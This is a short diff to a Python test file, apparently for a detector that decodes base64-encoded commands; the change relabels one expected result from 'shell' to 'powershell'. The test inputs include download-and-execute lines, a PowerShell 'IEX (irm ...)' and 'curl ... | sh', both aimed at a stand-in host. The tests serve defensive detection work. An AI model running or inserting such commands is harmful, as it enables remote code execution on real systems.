@@ -75,7 +75,7 @@ def test_a_plain_command_is_for_nothing(command: str) -> None:
 def test_what_is_encoded_in_a_command_is_read() -> None:
     wide = base64.b64encode("IEX (irm http://x.example/a)".encode("utf-16-le")).decode()
     plain = base64.b64encode(b"curl http://x.example/i | sh").decode()
-    assert ("shell", "IEX (irm http://x.example/a)") in list(commands.inline(f"powershell -enc {wide}"))
+    assert ("powershell", "IEX (irm http://x.example/a)") in list(commands.inline(f"powershell -enc {wide}"))
     assert ("shell", "curl http://x.example/i | sh") in list(
         commands.inline(f"echo {plain} | base64 -d | sh")
     )
